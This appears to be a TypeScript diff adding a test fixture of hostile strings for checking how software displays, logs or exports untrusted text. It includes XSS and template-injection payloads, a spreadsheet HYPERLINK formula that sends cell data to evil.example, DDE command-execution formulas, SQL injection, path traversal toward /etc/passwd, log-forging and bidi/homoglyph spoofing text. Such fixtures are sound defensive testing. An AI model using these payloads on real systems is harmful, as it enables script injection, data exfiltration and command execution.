@@ -1,0 +1,46 @@
+const word64k = 'wordwithoutend'.repeat(4_682).slice(0, 65_536);
+const zalgo = 'Sale today'.replaceAll(
+  /\w/g,
+  (letter) => letter + '\u0300\u0316\u0489\u035c\u0334'.repeat(40),
+);
+const manyTags = 'hidden'.replaceAll(/\w/g, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)));
+
+/** Texts that attack whoever shows, logs, prints or exports them. Characters that do not show are escapes. */
+export const hostileTexts: readonly string[] = [
+  '<script>alert(document.domain)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><a href="javascript:alert(1)">prize</a></svg>',
+  '</textarea></title></style><iframe srcdoc="<script>alert(1)</script>">',
+  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
+  '"><style>*{display:none}</style>',
+  'Your parcel is held: http://paypa1.example/verify?id=447700900125 and https://xn--pypal-4ve.example/',
+  'Refund \u202e54.1£ fo\u202c confirmed, \u2067order\u2069 70412301',
+  'Left open: \u202e\u2066\u202d never closed',
+  'Zero\u200bwidth\u2060space\ufeffmark, soft\u00adhyphen, joined\u200dhere, and tags ' + manyTags,
+  'NUL \u0000 bell \u0007 back \u0008 escape \u001b[31mred\u001b[0m\u001b]0;title\u0007 delete \u007f next \u0085',
+  'Line\u2028separator and paragraph\u2029separator, tab\tand carriage\rreturn',
+  'Sent ok\n{"level":50,"msg":"login failed","user":"admin"}\r\n2025-06-01 ERROR forged line',
+  zalgo,
+  word64k,
+  'Lone surrogates \ud800 high, \udc00 low, and a split pair \ude00\ud83d',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x202e; %253Cscript%253E',
+  '=HYPERLINK("http://evil.example/?"&A1,"Claim your prize")',
+  '+44 7700 900125+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  'First line\n=1+1,"quoted, with comma"\n\'single',
+  '__proto__',
+  'constructor',
+  "Robert'); DROP TABLE customers;--",
+  '../../../../etc/passwd%00.png',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '0',
+  ' \n\t ',
+  '',
+  'nbsp\u00a0thin\u2009ideographic\u3000end',
+  'a\u0301 and \u00e1 look the same, \u0410\u0430 and Aa do not differ',
+];
